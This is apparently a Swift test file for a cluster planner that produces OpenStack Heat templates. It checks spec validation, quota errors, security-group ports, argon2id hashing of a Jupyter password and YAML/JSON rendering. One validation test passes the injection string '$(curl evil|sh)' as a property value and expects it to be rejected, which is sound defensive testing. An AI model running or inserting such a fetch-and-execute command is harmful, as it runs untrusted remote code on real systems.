import Foundation
import Testing
@testable import DiscoCore

@Suite struct PlannerTests {
    let planner: Planner

    init() throws {
        let jupyterProperties: [String: PropertyDefinition] = [
            "password": PropertyDefinition(summary: "notebook password", isSecret: true, isRequired: true),
            "port": PropertyDefinition(type: .integer, defaultValue: "8888", pattern: "^[0-9]{2,5}$"),
            "theme": PropertyDefinition(summary: "a theme name", defaultValue: "light", pattern: "^[a-z]{1,16}$"),
        ]
        planner = Planner(catalog: try .make([("hadoop", [], []), ("spark", ["hadoop"], []), ("jupyter", [], [])],
                                             properties: ["jupyter": jupyterProperties]))
    }

    @Test func planListsComponentsPortsAndTotals() throws {
        let plan = try planner.plan(.make(workers: 3, components: ["spark": [:]]), inventory: .standard, context: .fixed)
        #expect(plan.components.map(\.name) == ["base", "hadoop", "spark"])
        #expect(plan.totals == ResourceTotals(instances: 4, vcpus: 16, ramMB: 32768, diskGB: 320, floatingIPs: 1,
                                             networks: 1, routers: 1, securityGroups: 1))
        #expect(plan.ports.map(\.port) == [22, 9000, 9001])
        #expect(plan.yarn == YarnSizing(ramMB: 8192, vcpus: 4))
        #expect(plan.stackName == "disco-0f5e1c2a-9b7d-4e3f-8a61-2c4d5e6f7a8b")
        #expect(plan.parameters["worker_count"] == "3")
    }

    @Test func yarnIsSizedFromTheWorkerFlavor() throws {
        var spec = ClusterSpec.make(workers: 2, components: ["hadoop": [:]])
        spec.master.flavor = "m1.xlarge"
        spec.worker.flavor = "m1.large"
        let plan = try planner.plan(spec, inventory: .standard, context: .fixed)
        #expect(plan.yarn?.containerMB == 774)
        #expect(plan.workerScript.contains("DISCO_YARN_CONTAINER_MB='774'"))
        spec.workers = 0
        // Without workers the master runs the NodeManager (this catalog declares no memory, so the whole formula applies).
        #expect(try planner.plan(spec, inventory: .standard, context: .fixed).yarn == YarnSizing(ramMB: 16384, vcpus: 8))
    }

    @Test func cloudNamesAreCheckedWithSuggestions() {
        var spec = ClusterSpec.make()
        spec.master.flavor = "m1.lareg"
        spec.worker.image = "ubuntu-2204"
        spec.externalNetwork = "private"
        let error = #expect(throws: SpecValidationError.self) { try planner.plan(spec, inventory: .standard, context: .fixed) }
        #expect(error?.problems.map(\.description) == [
            "worker.image: ubuntu-2204 is not an image of this cloud (did you mean 'ubuntu-22.04'?); use one of: debian-12, ubuntu-22.04, ubuntu-24.04",
            "master.flavor: m1.lareg is not a flavor of this cloud (did you mean 'm1.large'?); use one of: m1.large, m1.medium, m1.small, m1.xlarge",
            "externalNetwork: private is not an external network; use one of: public",
        ])
    }

    @Test func propertiesAreCheckedAndSecretsNeverShown() throws {
        let spec = ClusterSpec.make(components: ["jupyter": ["theme": "$(curl evil|sh)", "prot": "1"]])
        let error = #expect(throws: SpecValidationError.self) { try planner.plan(spec, inventory: .standard, context: .fixed) }
        #expect(error?.problems.map(\.path) == ["components.jupyter.prot", "components.jupyter.password", "components.jupyter.theme"])
        #expect(error?.problems[0].problem.hasSuffix("(did you mean 'port'?)") == true)
        #expect(error?.problems[2].description.contains("does not match the allowed pattern") == true)
    }

    /// The rule the OpenAPI document states for secrets: no C0 or C1 control, DEL or line/paragraph separator, 1–256.
    @Test(arguments: ["", "a\u{7F}b", "a\u{85}b", "a\u{9F}b", "a\u{2028}b", "a\u{2029}b", "a\tb", String(repeating: "x", count: 257)])
    func secretsWithControlCharactersOrSeparatorsAreRefused(password: String) {
        let spec = ClusterSpec.make(components: ["jupyter": ["password": password]])
        let error = #expect(throws: SpecValidationError.self) { try planner.plan(spec, inventory: .standard, context: .fixed) }
        #expect(error?.problems.map(\.description) == [
            "components.jupyter.password: is not an acceptable secret; use 1–256 characters, none a control character or line separator",
        ])
    }

    @Test func secretsMayUseAnyOtherCharacter() throws {
        let spec = ClusterSpec.make(components: ["jupyter": ["password": "pä ss\u{A0}wörd €😀" + String(repeating: "x", count: 200)]])
        _ = try planner.plan(spec, inventory: .standard, context: .fixed)
    }

    /// The form jupyter_server's passwd_check verifies with argon2-cffi, with its own parameters and the cluster's salt.
    @Test func secretReachesTheScriptOnlyAsAnArgon2idHash() throws {
        let spec = ClusterSpec.make(components: ["jupyter": ["password": "s3cret!pw"]])
        let plan = try planner.plan(spec, inventory: .standard, context: .fixed)
        let expected = PasswordHash.jupyter("s3cret!pw", salt: Array("0123456789ab".utf8))
        #expect(expected.hasPrefix("argon2:$argon2id$v=19$m=10240,t=10,p=8$MDEyMzQ1Njc4OWFi$"), "\(expected)")
        #expect(plan.masterScript.contains("DISCO_JUPYTER_PASSWORD_HASH='\(expected)'"))
        #expect(!plan.masterScript.contains("s3cret!pw"))
        #expect(!plan.template.json().contains("s3cret!pw"))
        #expect(plan.spec.components["jupyter"] == [:])
        #expect(plan.components.first { $0.name == "jupyter" }?.properties == ["port": "8888", "theme": "light"])
    }

    @Test func quotaShortfallIsReported() {
        var inventory = CloudInventory.standard
        inventory.quota = QuotaHeadroom(instances: 5, vcpus: 8)
        let error = #expect(throws: SpecValidationError.self) {
            try planner.plan(.make(workers: 5), inventory: inventory, context: .fixed)
        }
        #expect(error?.problems.map(\.problem) == ["needs 6 instances but the project has 5 left", "needs 24 vCPUs but the project has 8 left"])
    }

    @Test func templateHasTheClusterShape() throws {
        let plan = try planner.plan(.make(workers: 4, components: ["spark": [:]]), inventory: .standard, context: .fixed)
        let t = plan.template
        #expect(t.resource("workers")?.type == "OS::Heat::ResourceGroup")
        #expect(t.resource("workers")?.properties.first { $0.0 == "count" }?.1 == .getParam("worker_count"))
        #expect(t.resource("keypair")?.properties.first { $0.0 == "public_key" }?.1 == .string(PlanContext.fixed.keys.user.publicKey))
        #expect(!t.json().contains("PRIVATE KEY-----\nuser"))
        let wait = try #require(t.resource("install_wait"))
        // One signal per component from the master and one per worker; a scale raises the parameter.
        #expect(wait.properties.first { $0.0 == "count" }?.1 == .getParam("install_signals"))
        #expect(plan.parameters["install_signals"] == "7")
        #expect(t.parameters.first { $0.0 == "install_signals" }?.1.defaultValue == 7)
        #expect(wait.metadata == ["disco": ["components": ["base", "hadoop", "spark"], "workers": "workers"]])
        // Public ports: ICMP, SSH and the components' ports; all traffic between members.
        let rules = try #require(t.resource("security_group")?.properties.first { $0.0 == "rules" }?.1)
        guard case let .list(items) = rules else { Issue.record("rules is not a list"); return }
        let publicPorts = items.compactMap { rule -> Int? in
            guard rule["remote_ip_prefix"] != nil, case let .int(port)? = rule["port_range_min"] else { return nil }
            return port
        }
        #expect(publicPorts == [22, 9000, 9001])
        #expect(items.filter { $0["remote_mode"] == "remote_group_id" }.count == 3)
    }

    @Test func jsonAndYamlRenderTheSameDocument() async throws {
        let plan = try planner.plan(.make(workers: 2, components: ["jupyter": ["password": "pw"]]), inventory: .standard, context: .fixed)
        let json = plan.template.json()
        let parsed = try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String: Any]
        #expect(parsed?["heat_template_version"] as? String == "2018-08-31")
        // PyYAML (in the Debian/CI image) reads the YAML back; it must equal the JSON.
        let script = "import json,sys,yaml; a=yaml.safe_load(open(sys.argv[1])); b=json.load(open(sys.argv[2])); print('same' if a==b else 'different')"
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("disco-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: dir) }
        try plan.template.yaml().write(to: dir.appendingPathComponent("t.yaml"), atomically: true, encoding: .utf8)
        try json.write(to: dir.appendingPathComponent("t.json"), atomically: true, encoding: .utf8)
        let verdict = try await runBash("python3 -c \(ShellQuoting.quote(script)) \(dir.path)/t.yaml \(dir.path)/t.json")
        #expect(verdict == "same\n")
    }
}

@Suite struct HOTWriterTests {
    @Test("awkward strings survive YAML", arguments: [
        "yes", "no", "on", "null", "~", "1.0", "0x1F", "2024-01-01", "12:30", "- item", "a: b", "#x", "x #y", "  lead",
        "trail ", "multi\nline\n", "no trailing\nnewline", "tab\tinside", "quote\"s", "back\\slash", "emoji 🎉", "", "@at", "%p",
        "ends with colon:", "\n\nleading newlines", "crlf\r\nline", "\u{1}",
    ])
    func yamlRoundTrip(text: String) async throws {
        let doc: HOTValue = ["key": .string(text), "list": [.string(text), ["inner": .string(text)]]]
        let yaml = HOTWriter.yaml(doc)
        let script = "import json,sys,yaml; print(json.dumps(yaml.safe_load(sys.stdin.read())))"
        let back = try await runBash("python3 -c \(ShellQuoting.quote(script))", stdin: yaml)
        let expected = HOTWriter.json(doc, pretty: false)
        let reparsed = try JSONSerialization.jsonObject(with: Data(back.utf8)) as? NSDictionary
        let original = try JSONSerialization.jsonObject(with: Data(expected.utf8)) as? NSDictionary
        #expect(reparsed == original, "YAML was:\n\(yaml)")
    }

    @Test func jsonEscapesControlCharacters() {
        #expect(HOTWriter.json(.string("a\u{1}\"\\\n"), pretty: false) == #""a\u0001\"\\\n""#)
    }
}
